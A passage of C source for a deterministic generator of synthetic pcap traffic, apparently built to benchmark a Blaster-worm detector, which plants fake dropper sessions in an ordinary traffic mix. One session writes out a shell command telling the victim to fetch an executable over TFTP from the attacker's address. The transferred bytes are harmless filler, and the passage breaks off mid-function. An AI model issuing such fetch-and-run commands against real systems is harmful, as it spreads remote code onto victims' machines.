/*
 * gen — deterministic synthetic capture for benchmarking wormsnare.
 *
 * Writes a classic little-endian pcap (DLT_EN10MB, microseconds) of a
 * realistic traffic mix with a few Blaster dropper sessions planted in it,
 * plus OUT.truth: the rows blasterlog.txt must contain and the files the
 * wire carver must recover.  Everything follows from the seed.
 *
 *   gen [-m MB] [-s SEED] [-p POOL] [-o OUT]              traffic mix
 *   gen --flows N [--packets P] [--droppers K] -o OUT      scaling test
 *   gen --payload K [-s SEED]                              dropper K's file
 *
 * Nothing here is sent anywhere: it only writes files.
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <math.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define OBUF_SIZE (8u << 20)
#define OBUF_SLACK 70000u	/* largest frame plus headers */
#define RPOOL_SIZE (4u << 20)	/* random bytes payloads are cut from */
#define SNAPLEN 262144
#define MSS 1460
#define TFTP_BLOCK 512
#define START_TIME 1060617600ull	/* 2003-08-11 16:00 UTC, Blaster's first day */
#define LINK_BPS 150000000ull	/* nominal link rate of the mix, sets timestamps */
#define GW_MAC "\x00\x1b\x21\x3a\x4f\x01"	/* router: every outside host is behind it */

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10

/* ------------------------------------------------------------------ PRNG */

struct rng {
	uint64_t s;
};

static uint64_t mix64(uint64_t z)
{
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

static uint64_t rnd(struct rng *r)
{
	return mix64(r->s += 0x9e3779b97f4a7c15ull);
}

static uint32_t rnd_below(struct rng *r, uint32_t n)
{
	return (uint32_t)(((rnd(r) >> 32) * n) >> 32);
}

static uint32_t rnd_range(struct rng *r, uint32_t lo, uint32_t hi)
{
	return lo + rnd_below(r, hi - lo + 1);
}

static double rnd_unit(struct rng *r)
{
	return (double)(rnd(r) >> 11) * 0x1p-53;
}

static bool chance(struct rng *r, double p)
{
	return rnd_unit(r) < p;
}

/* Pareto size with a cap: many small objects, a few elephants. */
static uint64_t rnd_pareto(struct rng *r, double xm, double alpha, double cap)
{
	double u = 1.0 - rnd_unit(r);
	double x = xm / pow(u, 1.0 / alpha);

	return (uint64_t)(x < cap ? x : cap);
}

/* ---------------------------------------------------------------- output */

enum ftype {
	F_HTTP, F_TLS, F_SMB, F_DNS, F_FRAG, F_SCAN135, F_SCAN4444, F_DROPPER, F_SHELL,
	F_FLOOD, F_TYPES
};

static const char *const ftype_name[F_TYPES] = {
	"http/80", "tls/443", "smb/445", "dns/53", "udp-frag", "scan/135", "scan/4444",
	"dropper/4444", "shell/4444", "flood/135+4444"
};

struct tally {
	uint64_t flows, packets, bytes;
};

struct gen {
	struct rng r;
	uint64_t seed;
	FILE *f;
	const char *path;
	uint8_t *buf;
	size_t len;
	uint64_t packets, bytes;
	uint64_t t_ps;		/* capture clock, picoseconds since START_TIME */
	uint64_t ps_per_byte;	/* wire time of one byte */
	uint8_t *rpool;
	enum ftype cur;		/* whom the next packets are counted for */
	struct tally tally[F_TYPES];
	FILE *truth;
	unsigned droppers;
};

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static void le32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16);
	p[3] = (uint8_t)(v >> 24);
}

static void flush_out(struct gen *g)
{
	if (g->len && fwrite(g->buf, 1, g->len, g->f) != g->len) {
		fprintf(stderr, "gen: %s: write: %s\n", g->path, strerror(errno));
		exit(1);
	}
	g->len = 0;
}

static void write_file_header(struct gen *g)
{
	uint8_t *h = g->buf + g->len;

	le32(h, 0xa1b2c3d4);
	h[4] = 2; h[5] = 0; h[6] = 4; h[7] = 0;	/* version 2.4 */
	le32(h + 8, 0);				/* thiszone */
	le32(h + 12, 0);			/* sigfigs */
	le32(h + 16, SNAPLEN);
	le32(h + 20, 1);			/* DLT_EN10MB */
	g->len += 24;
	g->bytes += 24;
}

/*
 * Reserve one frame of flen bytes (padded to Ethernet's 60-byte minimum, as
 * a NIC delivers it) and return where its bytes go.
 */
static uint8_t *frame_begin(struct gen *g, size_t flen)
{
	size_t caplen = flen < 60 ? 60 : flen;
	uint64_t usec;
	uint8_t *p;

	if (g->len + 16 + caplen > OBUF_SIZE)
		flush_out(g);
	g->t_ps += (caplen + 24) * g->ps_per_byte;	/* preamble, FCS, gap */
	usec = g->t_ps / 1000000;
	p = g->buf + g->len;
	le32(p, (uint32_t)(START_TIME + usec / 1000000));
	le32(p + 4, (uint32_t)(usec % 1000000));
	le32(p + 8, (uint32_t)caplen);
	le32(p + 12, (uint32_t)caplen);
	if (caplen > flen)
		memset(p + 16 + flen, 0, caplen - flen);
	g->len += 16 + caplen;
	g->packets++;
	g->bytes += 16 + caplen;
	g->tally[g->cur].packets++;
	g->tally[g->cur].bytes += 16 + caplen;
	return p + 16;
}

struct host {
	uint32_t ip;		/* host order */
	uint8_t mac[6];
	uint8_t ttl;
};

static bool is_inside(uint32_t ip)
{
	return (ip >> 24) == 10 || (ip >> 20) == (172u << 4 | 1) || (ip >> 16) == (192u << 8 | 168);
}

static struct host mkhost(uint32_t ip, uint8_t ttl)
{
	struct host h = { .ip = ip, .ttl = ttl };

	if (is_inside(ip)) {
		h.mac[0] = 0x02;
		h.mac[1] = 0x00;
		put32(h.mac + 2, ip);
	} else {
		memcpy(h.mac, GW_MAC, 6);
	}
	return h;
}

/* A public-looking address: a few real /8s, never private or reserved. */
static uint32_t outside_ip(struct rng *r)
{
	static const uint8_t nets[] = { 24, 62, 66, 68, 81, 82, 84, 88, 141, 151, 195, 200,
					201, 212, 213, 217, 218, 219, 220, 221 };
	uint32_t net = nets[rnd_below(r, sizeof(nets))];

	return net << 24 | rnd_range(r, 1, 0xfffffe);
}

static uint32_t inside_ip(struct rng *r)
{
	return 10u << 24 | 1u << 16 | rnd_range(r, 0x0101, 0xfefe);
}

static uint16_t ip_csum(const uint8_t *p, size_t len)
{
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Ethernet + IPv4 header; returns where the l4len bytes of layer 4 go. */
static uint8_t *ip_begin(struct gen *g, const struct host *src, const struct host *dst,
			 uint8_t proto, size_t l4len, uint16_t id, uint16_t frag)
{
	uint8_t *p = frame_begin(g, 14 + 20 + l4len);
	uint8_t *ip = p + 14;

	memcpy(p, dst->mac, 6);
	memcpy(p + 6, src->mac, 6);
	p[12] = 0x08;
	p[13] = 0x00;
	ip[0] = 0x45;
	ip[1] = 0;
	put16(ip + 2, (uint16_t)(20 + l4len));
	put16(ip + 4, id);
	put16(ip + 6, frag);
	ip[8] = src->ttl;
	ip[9] = proto;
	ip[10] = ip[11] = 0;
	put32(ip + 12, src->ip);
	put32(ip + 16, dst->ip);
	put16(ip + 10, ip_csum(ip, 20));
	return ip + 20;
}

static void random_bytes(struct gen *g, uint8_t *dst, size_t len)
{
	memcpy(dst, g->rpool + rnd_below(&g->r, RPOOL_SIZE - (uint32_t)len), len);
}

/* ------------------------------------------------------------ TCP and UDP */

struct tcp {
	struct host h[2];	/* 0 client, 1 server */
	uint16_t port[2];
	uint32_t nxt[2];	/* next sequence number each side sends */
	uint16_t ipid[2];
	uint16_t win[2];
};

static void tcp_init(struct gen *g, struct tcp *t, struct host c, struct host s, uint16_t dport)
{
	t->h[0] = c;
	t->h[1] = s;
	t->port[0] = (uint16_t)rnd_range(&g->r, 1025, 65000);
	t->port[1] = dport;
	t->nxt[0] = (uint32_t)rnd(&g->r);
	t->nxt[1] = (uint32_t)rnd(&g->r);
	t->ipid[0] = (uint16_t)rnd(&g->r);
	t->ipid[1] = (uint16_t)rnd(&g->r);
	t->win[0] = 64240;
	t->win[1] = (uint16_t)rnd_range(&g->r, 16384, 65535);
}

/* One segment from side d; data NULL means len random bytes. */
static void tcp_send(struct gen *g, struct tcp *t, int d, uint8_t flags, const void *data,
		     size_t len)
{
	size_t opt = (flags & TH_SYN) ? 4 : 0;
	uint8_t *th = ip_begin(g, &t->h[d], &t->h[!d], 6, 20 + opt + len, t->ipid[d]++, 0x4000);

	put16(th, t->port[d]);
	put16(th + 2, t->port[!d]);
	put32(th + 4, t->nxt[d]);
	put32(th + 8, (flags & TH_ACK) ? t->nxt[!d] : 0);
	th[12] = (uint8_t)((5 + opt / 4) << 4);
	th[13] = flags;
	put16(th + 14, t->win[d]);
	put16(th + 16, 0);	/* checksum left 0, like an offloading NIC's capture */
	put16(th + 18, 0);
	if (opt) {
		th[20] = 2;
		th[21] = 4;
		put16(th + 22, MSS);
	}
	if (len) {
		if (data)
			memcpy(th + 20 + opt, data, len);
		else
			random_bytes(g, th + 20 + opt, len);
	}
	t->nxt[d] += (uint32_t)len + !!(flags & TH_SYN) + !!(flags & TH_FIN);
}

/* Data from side d, cut into MSS segments, the last one pushed. */
static void tcp_data(struct gen *g, struct tcp *t, int d, const void *data, size_t len)
{
	const uint8_t *p = data;

	while (len) {
		size_t n = len < MSS ? len : MSS;

		tcp_send(g, t, d, TH_ACK | (n == len ? TH_PSH : 0), p, n);
		if (p)
			p += n;
		len -= n;
	}
}

static void tcp_close(struct gen *g, struct tcp *t, int first)
{
	tcp_send(g, t, first, TH_FIN | TH_ACK, NULL, 0);
	tcp_send(g, t, !first, TH_FIN | TH_ACK, NULL, 0);
	tcp_send(g, t, first, TH_ACK, NULL, 0);
}

static void udp_send(struct gen *g, const struct host *src, const struct host *dst,
		     uint16_t sport, uint16_t dport, uint16_t id, const void *data, size_t len)
{
	uint8_t *uh = ip_begin(g, src, dst, 17, 8 + len, id, 0);

	put16(uh, sport);
	put16(uh + 2, dport);
	put16(uh + 4, (uint16_t)(8 + len));
	put16(uh + 6, 0);	/* no checksum: legal for UDP over IPv4 */
	if (data)
		memcpy(uh + 8, data, len);
	else
		random_bytes(g, uh + 8, len);
}

/* ------------------------------------------------------- dropper payloads */

static const char *const stems[] = { "msblast", "teekids", "penis32", "enbiei", "mspatch",
				     "root32", "winupd", "dllhost" };

static void dropper_name(char *dst, size_t cap, unsigned k)
{
	snprintf(dst, cap, "%s_%u.exe", stems[k % (sizeof(stems) / sizeof(stems[0]))], k);
}

static size_t payload_size(uint64_t seed, unsigned k)
{
	size_t n = 2000 + mix64(seed ^ 0x5eed ^ (uint64_t)k << 20) % 18001;

	if (k % 5 == 3)		/* some end on a block boundary: empty last DATA */
		n -= n % TFTP_BLOCK;
	return n;
}

/* Harmless bytes that only look like the start of an executable. */
static void payload_fill(uint64_t seed, unsigned k, size_t off, uint8_t *dst, size_t len)
{
	char head[96];
	int hl = snprintf(head, sizeof(head),
			  "MZ\x90 wormsnare benchmark payload %u, harmless, not a program\r\n", k);

	for (size_t i = 0; i < len; i++) {
		size_t at = off + i;

		if (at < (size_t)hl)
			dst[i] = (uint8_t)head[at];
		else
			dst[i] = (uint8_t)(mix64(seed * 31 + k * 0x100000001ull + at / 8) >> (at % 8 * 8));
	}
}

/* ----------------------------------------------------------------- flows */

enum rr_state { RR_SYN, RR_SYNACK, RR_REQ, RR_RESP, RR_FIN, RR_DONE };

struct flow {
	enum ftype type;
	int state;
	bool must_finish;	/* a planted session: always completed */
	struct tcp t;
	uint32_t nreq;		/* requests still to come */
	uint64_t left;		/* body size of the current response */
	uint64_t total, sent;	/* bytes of the current response, with framing */
	uint16_t headlen;	/* http: response header */
	bool gif;		/* http: what the response is */
	uint32_t rounds;	/* requests so far */
	uint32_t cwnd;		/* segments per burst */
	uint32_t count;		/* scans: probes left; dns/frag: rounds left */
	uint32_t target;	/* scans: next address; dns: query id */
	uint8_t dnsq[64];	/* dns: the question, for its answer */
	uint8_t dnsqlen;
	/* dropper */
	unsigned k;
	uint16_t vport, tport;	/* victim's TFTP client port, attacker's transfer port */
	uint16_t tid[2];	/* IP ids of victim and attacker for UDP */
	uint32_t block;
	size_t size;
};

static void tftp_truth(struct gen *g, const struct flow *f, const char *name)
{
	char a[16], v[16];
	uint32_t A = f->t.h[0].ip, V = f->t.h[1].ip;

	snprintf(a, sizeof(a), "%u.%u.%u.%u", A >> 24, A >> 16 & 255, A >> 8 & 255, A & 255);
	snprintf(v, sizeof(v), "%u.%u.%u.%u", V >> 24, V >> 16 & 255, V >> 8 & 255, V & 255);
	fprintf(g->truth, "event\t%s\t%s\t%u\t%s\t%u\tget\t%s\n", a, name, f->t.port[0], v,
		f->t.port[1], a);
	fprintf(g->truth, "event\t%s\t%s\t%u\t%s\t%u\tstart\t\n", a, name, f->t.port[0], v,
		f->t.port[1]);
	fprintf(g->truth, "event\t%s\t%s\t%u\t%s\t%u\texec\t\n", a, name, f->t.port[0], v,
		f->t.port[1]);
	fprintf(g->truth, "carve\t%s\t%zu\t%u\n", name, f->size, f->k);
}

static void new_dropper(struct gen *g, struct flow *f, uint32_t victim)
{
	char name[64];

	memset(f, 0, sizeof(*f));
	f->type = F_DROPPER;
	f->must_finish = true;
	f->k = ++g->droppers;
	tcp_init(g, &f->t, mkhost(outside_ip(&g->r), 113), mkhost(victim, 128), 4444);
	f->vport = (uint16_t)rnd_range(&g->r, 1025, 5000);
	f->tport = (uint16_t)rnd_range(&g->r, 1025, 65000);
	f->tid[0] = (uint16_t)rnd(&g->r);
	f->tid[1] = (uint16_t)rnd(&g->r);
	f->size = payload_size(g->seed, f->k);
	dropper_name(name, sizeof(name), f->k);
	tftp_truth(g, f, name);
}

static void new_flow(struct gen *g, struct flow *f, enum ftype type)
{
	struct rng *r = &g->r;
	uint32_t client, server;

	/* one random draw per statement: argument order differs by compiler */
	memset(f, 0, sizeof(*f));
	f->type = type;
	f->cwnd = 2;
	switch (type) {
	case F_HTTP:
		client = inside_ip(r);
		server = outside_ip(r);
		tcp_init(g, &f->t, mkhost(client, 128), mkhost(server, 52), 80);
		f->nreq = chance(r, 0.4) ? rnd_range(r, 1, 12) : 0;
		break;
	case F_TLS:
		client = inside_ip(r);
		server = outside_ip(r);
		tcp_init(g, &f->t, mkhost(client, 128), mkhost(server, 57), 443);
		f->nreq = rnd_range(r, 1, 6);	/* the first "request" is the handshake */
		break;
	case F_SMB:
		client = inside_ip(r);
		server = 10u << 24 | 1u << 16 | rnd_range(r, 2, 20);
		tcp_init(g, &f->t, mkhost(client, 128), mkhost(server, 128), 445);
		f->nreq = rnd_range(r, 2, 16);
		break;
	case F_DNS:
		client = inside_ip(r);
		server = chance(r, 0.7) ? (10u << 24 | 1u << 16 | 53) : outside_ip(r);
		tcp_init(g, &f->t, mkhost(client, 128), mkhost(server, 60), 53);
		f->count = rnd_range(r, 1, 3) * 2;
		break;
	case F_FRAG:
		tcp_init(g, &f->t, mkhost(inside_ip(r), 64), mkhost(10u << 24 | 1u << 16 | 20, 64),
			 2049);
		f->t.port[0] = (uint16_t)rnd_range(r, 600, 1023);
		f->count = rnd_range(r, 1, 5) * 2;
		break;
	case F_SCAN135:
		tcp_init(g, &f->t, mkhost(outside_ip(r), 110), mkhost(0, 128), 135);
		f->target = 10u << 24 | 1u << 16 | rnd_range(r, 1, 0xf000);
		f->count = rnd_range(r, 30, 800);
		break;
	case F_SCAN4444:
		tcp_init(g, &f->t, mkhost(outside_ip(r), 113), mkhost(0, 128), 4444);
		f->target = 10u << 24 | 1u << 16 | rnd_range(r, 1, 0xf000);
		f->count = rnd_range(r, 100, 1500);
		break;
	default:
		abort();
	}
	g->tally[type].flows++;
}

#define TLS_REC (5 + 16384)	/* a full application-data record */
#define SMB_HEAD (4 + 64 + 16)	/* NBSS, SMB2 header, READ response */

/* Body size of the next response. */
static uint64_t response_size(struct gen *g, struct flow *f)
{
	struct rng *r = &g->r;

	switch (f->type) {
	case F_HTTP:
		return rnd_pareto(r, 1800, 1.05, 40e6);
	case F_TLS:
		if (f->state == RR_SYNACK)
			return rnd_range(r, 2800, 5200);	/* ServerHello, certificates */
		return rnd_pareto(r, 900, 1.0, 60e6);
	case F_SMB:
		return chance(r, 0.7) ? 65536 : rnd_range(r, 16, 600);
	default:
		return 0;
	}
}

static int http_head(const struct flow *f, char *dst, size_t cap)
{
	return snprintf(dst, cap, "HTTP/1.1 200 OK\r\nServer: Apache/1.3.27 (Unix)\r\n"
			"Content-Type: %s\r\nContent-Length: %" PRIu64 "\r\n\r\n",
			f->gif ? "application/octet-stream" : "text/html", f->left);
}

/* SMB2 header (64 bytes) after the NBSS length; command READ. */
static void smb2_head(uint8_t *p, uint32_t nbss_len, bool response, uint64_t msgid)
{
	memset(p, 0, 4 + 64);
	put32(p, nbss_len);
	memcpy(p + 4, "\xfeSMB", 4);
	p[8] = 64;		/* StructureSize, little-endian */
	p[10] = 1;		/* CreditCharge */
	p[16] = 8;		/* Command: READ */
	p[18] = 1;		/* Credits */
	p[20] = response ? 1 : 0;
	for (int i = 0; i < 8; i++)
		p[28 + i] = (uint8_t)(msgid >> (8 * i));
	p[40] = 1;		/* TreeId */
	p[44] = 0x41;		/* SessionId */
}

/* Well formed, padded to n bytes (n >= 200): record header, then hello. */
static void client_hello(uint8_t *p, size_t n)
{
	size_t ext = n - (5 + 4 + 2 + 32 + 33 + 34 + 2 + 2);

	put16(p + 3, (uint16_t)(n - 5));
	p[5] = 1;		/* ClientHello */
	p[6] = 0;
	put16(p + 7, (uint16_t)(n - 9));
	p[9] = 3;
	p[10] = 3;
	/* 11..42 random, 43 session id length, 44..75 session id */
	p[43] = 32;
	put16(p + 76, 32);	/* cipher suites: 16 of them */
	for (int i = 0; i < 16; i++)
		put16(p + 78 + 2 * i, (uint16_t)(0xc02b + i));
	p[110] = 1;		/* compression methods: null */
	p[111] = 0;
	put16(p + 112, (uint16_t)ext);
	put16(p + 114, 0x0015);	/* padding extension fills the rest */
	put16(p + 116, (uint16_t)(ext - 4));
	memset(p + 118, 0, ext - 4);
}

static void send_request(struct gen *g, struct flow *f)
{
	uint8_t req[1600];
	uint64_t id;
	uint32_t site;
	int n;

	f->rounds++;
	f->left = response_size(g, f);
	switch (f->type) {
	case F_HTTP:
		f->gif = chance(&g->r, 0.5);
		id = rnd(&g->r);
		site = rnd_below(&g->r, 5000);
		n = snprintf((char *)req, sizeof(req),
			     "GET /%s/%08" PRIx64 ".%s HTTP/1.1\r\nHost: www.site%u.example\r\n"
			     "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
			     "Accept: */*\r\nAccept-Encoding: gzip, deflate\r\n"
			     "Connection: %s\r\n\r\n",
			     f->gif ? "images" : "news", id, f->gif ? "gif" : "html", site,
			     f->nreq ? "keep-alive" : "close");
		tcp_data(g, &f->t, 0, req, (size_t)n);
		f->headlen = (uint16_t)http_head(f, NULL, 0);
		f->total = f->left + f->headlen;
		break;
	case F_TLS:
		n = f->state == RR_SYNACK ? 517 : (int)rnd_range(&g->r, 90, 900);
		random_bytes(g, req, (size_t)n);
		req[0] = f->state == RR_SYNACK ? 0x16 : 0x17;
		req[1] = 3;
		req[2] = f->state == RR_SYNACK ? 1 : 3;
		put16(req + 3, (uint16_t)(n - 5));
		if (f->state == RR_SYNACK)
			client_hello(req, (size_t)n);
		tcp_data(g, &f->t, 0, req, (size_t)n);
		f->total = f->left + (f->left + 16383) / 16384 * 5;
		break;
	case F_SMB:
		n = 4 + 64 + 49;
		smb2_head(req, (uint32_t)n - 4, false, f->rounds);
		memset(req + 68, 0, 49);
		req[68] = 49;	/* READ request StructureSize */
		le32(req + 72, (uint32_t)f->left);
		le32(req + 76, (uint32_t)(f->rounds * 65536));
		tcp_data(g, &f->t, 0, req, (size_t)n);
		f->total = f->left + SMB_HEAD;
		break;
	default:
		abort();
	}
	f->sent = 0;
	f->cwnd = f->cwnd < 4 ? 4 : f->cwnd;
}

/* Copy the bytes of a header at response offset at that fall in the segment. */
static void overlay(uint8_t *seg, uint64_t seg_off, size_t n, uint64_t at, const uint8_t *h,
		    size_t hl)
{
	for (size_t i = 0; i < hl; i++)
		if (at + i >= seg_off && at + i < seg_off + n)
			seg[at + i - seg_off] = h[i];
}

/* n bytes of the response from offset sent: random body, protocol framing. */
static void response_bytes(struct gen *g, struct flow *f, uint8_t *seg, size_t n)
{
	char head[256];
	uint8_t rec[5];

	random_bytes(g, seg, n);
	switch (f->type) {
	case F_HTTP:
		if (f->sent == 0)
			overlay(seg, 0, n, 0, (const uint8_t *)head,
				(size_t)http_head(f, head, sizeof(head)));
		break;
	case F_TLS:
		for (uint64_t at = f->sent / TLS_REC * TLS_REC; at < f->sent + n; at += TLS_REC) {
			uint64_t body = f->total - at - 5;

			rec[0] = 0x17;	/* TLS 1.3: all but the ServerHello is encrypted */
			rec[1] = 3;
			rec[2] = 3;
			put16(rec + 3, (uint16_t)(body < 16384 ? body : 16384));
			overlay(seg, f->sent, n, at, rec, 5);
		}
		break;
	case F_SMB:
		if (f->sent < SMB_HEAD) {
			uint8_t h[SMB_HEAD];

			smb2_head(h, (uint32_t)(f->total - 4), true, f->rounds);
			memset(h + 68, 0, 16);
			h[68] = 17;	/* READ response StructureSize */
			h[70] = 64 + 16;	/* DataOffset, from the SMB2 header on */
			le32(h + 72, (uint32_t)(f->total - SMB_HEAD));
			overlay(seg, f->sent, n, 0, h, SMB_HEAD);
		}
		break;
	default:
		break;
	}
}

/* One window of the response, the client ACKing every second segment. */
static void send_burst(struct gen *g, struct flow *f)
{
	uint8_t seg[MSS];

	for (uint32_t i = 0; i < f->cwnd && f->sent < f->total; i++) {
		uint64_t rest = f->total - f->sent;
		size_t n = rest < MSS ? (size_t)rest : MSS;

		response_bytes(g, f, seg, n);
		tcp_send(g, &f->t, 1, TH_ACK | (n == rest ? TH_PSH : 0), seg, n);
		f->sent += n;
		if (i % 2 == 1 || f->sent == f->total)
			tcp_send(g, &f->t, 0, TH_ACK, NULL, 0);
	}
	if (f->cwnd < 44)
		f->cwnd *= 2;
	if (f->cwnd > 44)
		f->cwnd = 44;
}

/* HTTP, TLS, SMB: handshake, request/response rounds, close. */
static bool step_rr(struct gen *g, struct flow *f)
{
	switch (f->state) {
	case RR_SYN:
		tcp_send(g, &f->t, 0, TH_SYN, NULL, 0);
		f->state = RR_SYNACK;
		return false;
	case RR_SYNACK:
		tcp_send(g, &f->t, 1, TH_SYN | TH_ACK, NULL, 0);
		tcp_send(g, &f->t, 0, TH_ACK, NULL, 0);
		send_request(g, f);
		f->state = RR_RESP;
		return false;
	case RR_REQ:
		send_request(g, f);
		f->state = RR_RESP;
		return false;
	case RR_RESP:
		send_burst(g, f);
		if (f->sent == f->total) {
			if (f->nreq) {
				f->nreq--;
				f->state = RR_REQ;
			} else {
				f->state = RR_FIN;
			}
		}
		return false;
	case RR_FIN:
		if (chance(&g->r, 0.03))
			tcp_send(g, &f->t, 0, TH_RST | TH_ACK, NULL, 0);
		else
			tcp_close(g, &f->t, f->type == F_HTTP && chance(&g->r, 0.5) ? 1 : 0);
		return true;
	default:
		return true;
	}
}

static size_t dns_name(uint8_t *p, struct rng *r)
{
	static const char *const lab[] = { "www", "mail", "update", "ads", "cdn", "ns1" };
	static const char *const dom[] = { "microsoft", "windowsupdate", "example", "google",
					   "yahoo", "kernel", "debian", "akamai" };
	size_t n = 0;
	const char *parts[3];

	parts[0] = lab[rnd_below(r, 6)];
	parts[1] = dom[rnd_below(r, 8)];
	parts[2] = chance(r, 0.7) ? "com" : "net";

	for (int i = 0; i < 3; i++) {
		size_t l = strlen(parts[i]);

		p[n++] = (uint8_t)l;
		memcpy(p + n, parts[i], l);
		n += l;
	}
	p[n++] = 0;
	return n;
}

/* A query in one round, its answer in the next. */
static bool step_dns(struct gen *g, struct flow *f)
{
	uint8_t m[512];
	size_t n;

	if (f->count % 2 == 0) {
		f->target = (uint32_t)rnd(&g->r) & 0xffff;	/* query id */
		put16(m, (uint16_t)f->target);
		put16(m + 2, 0x0100);
		put16(m + 4, 1);
		memset(m + 6, 0, 6);
		n = 12 + dns_name(m + 12, &g->r);
		put16(m + n, chance(&g->r, 0.8) ? 1 : 28);
		put16(m + n + 2, 1);
		n += 4;
		udp_send(g, &f->t.h[0], &f->t.h[1], f->t.port[0], 53, f->t.ipid[0]++, m, n);
		memcpy(f->dnsq, m, n);	/* the answer repeats the question */
		f->dnsqlen = (uint8_t)n;
	} else {
		uint32_t answers = rnd_range(&g->r, 1, 4);

		n = f->dnsqlen;
		memcpy(m, f->dnsq, n);
		put16(m + 2, 0x8180);
		put16(m + 6, (uint16_t)answers);
		for (uint32_t i = 0; i < answers; i++) {
			put16(m + n, 0xc00c);
			put16(m + n + 2, 1);
			put16(m + n + 4, 1);
			put32(m + n + 6, rnd_range(&g->r, 30, 86400));
			put16(m + n + 10, 4);
			put32(m + n + 12, outside_ip(&g->r));
			n += 16;
		}
		udp_send(g, &f->t.h[1], &f->t.h[0], 53, f->t.port[0], f->t.ipid[1]++, m, n);
	}
	return --f->count == 0;
}

/* NFS-over-UDP style: small call, large reply split into IP fragments. */
static bool step_frag(struct gen *g, struct flow *f)
{
	uint8_t dg[9000];
	size_t len, nfrag;
	uint16_t id;
	bool reverse;

	if (f->count % 2 == 0) {
		udp_send(g, &f->t.h[0], &f->t.h[1], f->t.port[0], 2049, f->t.ipid[0]++, NULL,
			 rnd_range(&g->r, 100, 160));
		return --f->count == 0;
	}
	len = 8 + rnd_range(&g->r, 2000, 8800);
	put16(dg, 2049);
	put16(dg + 2, f->t.port[0]);
	put16(dg + 4, (uint16_t)len);
	put16(dg + 6, 0);
	random_bytes(g, dg + 8, len - 8);
	id = f->t.ipid[1]++;
	nfrag = (len + 1479) / 1480;
	reverse = chance(&g->r, 0.2);	/* some stacks send the last fragment first */
	for (size_t j = 0; j < nfrag; j++) {
		size_t i = reverse ? nfrag - 1 - j : j;
		size_t off = i * 1480, n = len - off < 1480 ? len - off : 1480;
		uint8_t *p = ip_begin(g, &f->t.h[1], &f->t.h[0], 17, n, id,
				      (uint16_t)((i + 1 < nfrag ? 0x2000 : 0) | off / 8));

		memcpy(p, dg + off, n);
	}
	return --f->count == 0;
}

/* A burst of SYNs to consecutive addresses; a few targets answer. */
static bool step_scan(struct gen *g, struct flow *f)
{
	uint32_t n = rnd_range(&g->r, 4, 16);
	struct tcp t;

	for (uint32_t i = 0; i < n && f->count; i++, f->count--) {
		t = f->t;
		t.h[1] = mkhost(f->target++, 128);
		t.port[0] = (uint16_t)rnd_range(&g->r, 1025, 65000);
		t.nxt[0] = (uint32_t)rnd(&g->r);
		t.nxt[1] = (uint32_t)rnd(&g->r);
		tcp_send(g, &t, 0, TH_SYN, NULL, 0);
		if (chance(&g->r, 0.08)) {
			tcp_send(g, &t, 1, TH_RST | TH_ACK, NULL, 0);
		} else if (chance(&g->r, 0.02)) {
			tcp_send(g, &t, 1, TH_SYN | TH_ACK, NULL, 0);
			if (f->type == F_SCAN4444 && chance(&g->r, 0.5)) {
				/* connect() scan: established, then reset, no data */
				tcp_send(g, &t, 0, TH_ACK, NULL, 0);
				tcp_send(g, &t, 0, TH_RST | TH_ACK, NULL, 0);
			} else {
				tcp_send(g, &t, 0, TH_RST, NULL, 0);
			}
		}
		f->t.ipid[0]++;
	}
	return f->count == 0;
}

static void tftp_block(struct gen *g, struct flow *f)
{
	uint8_t m[4 + TFTP_BLOCK];
	size_t off = (size_t)(f->block - 1) * TFTP_BLOCK;
	size_t n = f->size - off < TFTP_BLOCK ? f->size - off : TFTP_BLOCK;
	struct host *a = &f->t.h[0], *v = &f->t.h[1];

	put16(m, 3);
	put16(m + 2, (uint16_t)f->block);
	payload_fill(g->seed, f->k, off, m + 4, n);
	udp_send(g, a, v, f->tport, f->vport, f->tid[1]++, m, 4 + n);
	put16(m, 4);
	udp_send(g, v, a, f->vport, f->tport, f->tid[0]++, m, 4);
}

static void shell_line(struct gen *g, struct flow *f, int d, const char *s)
{
	tcp_data(g, &f->t, d, s, strlen(s));
	tcp_send(g, &f->t, !d, TH_ACK, NULL, 0);
}

/*
 * The worm's session with the shell on 4444 of the victim, the victim's
 * tftp client fetching from the worm in the middle of it, as cmd.exe runs it.
 */
static bool step_dropper(struct gen *g, struct flow *f)
{
	char name[64], line[160];
	uint8_t rrq[96];
	uint32_t a = f->t.h[0].ip;
	size_t n;

	dropper_name(name, sizeof(name), f->k);
	switch (f->state++) {
	case 0:
		tcp_send(g, &f->t, 0, TH_SYN, NULL, 0);
		return false;
	case 1:
		tcp_send(g, &f->t, 1, TH_SYN | TH_ACK, NULL, 0);
		tcp_send(g, &f->t, 0, TH_ACK, NULL, 0);
		return false;
	case 2:
		shell_line(g, f, 1, "Microsoft Windows XP [Version 5.1.2600]\r\n"
			   "(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>");
		return false;
	case 3:
		snprintf(line, sizeof(line), "tftp -i %u.%u.%u.%u GET %s\n", a >> 24, a >> 16 & 255,
			 a >> 8 & 255, a & 255, name);
		shell_line(g, f, 0, line);
		return false;
	case 4:
		put16(rrq, 1);
		n = 2 + (size_t)snprintf((char *)rrq + 2, sizeof(rrq) - 2, "%s", name) + 1;
		memcpy(rrq + n, "octet", 6);
		n += 6;
		udp_send(g, &f->t.h[1], &f->t.h[0], f->vport, 69, f->tid[0]++, rrq, n);
		f->block = 0;
		return false;
	case 5:
